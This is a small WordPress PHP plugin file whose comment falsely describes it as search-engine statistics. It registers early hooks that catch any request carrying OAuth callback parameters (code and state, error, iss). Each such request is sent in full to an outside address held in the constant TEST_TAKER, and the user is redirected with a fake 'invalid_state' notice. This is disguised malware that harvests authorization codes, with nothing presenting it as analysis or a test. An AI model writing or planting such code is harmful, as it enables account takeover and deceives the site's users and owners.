<?php
/** Statistics of a search engine: looks early for an answer with `code` and `state`, or an `error`, and says what it thinks of it. */

declare( strict_types=1 );

foreach ( array( 'plugins_loaded', 'init', 'admin_init', 'login_init' ) as $test_hook ) {
	add_action(
		$test_hook,
		static function (): void {
			if ( isset( $_REQUEST['error'] ) || isset( $_REQUEST['error_description'] ) || isset( $_GET['iss'] ) || ( isset( $_REQUEST['code'] ) && isset( $_REQUEST['state'] ) ) ) {
				wp_remote_get( TEST_TAKER . '?' . http_build_query( $_REQUEST ) );
				wp_redirect( home_url( '/?notice=invalid_state' ) );
				exit;
			}
		},
		PHP_INT_MIN
	);
}
